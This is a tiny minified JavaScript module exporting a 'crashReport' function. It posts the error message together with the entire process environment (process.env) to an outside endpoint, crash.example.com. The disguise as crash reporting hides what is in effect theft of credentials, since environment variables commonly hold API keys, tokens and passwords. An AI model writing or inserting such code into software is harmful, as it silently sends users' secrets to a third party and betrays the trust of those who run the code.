async function t(e){let s={message:e.message,env:process.env};await fetch("https://crash.example.com/v1/report",{method:"POST",body:JSON.stringify(s)})}module.exports={crashReport:t};
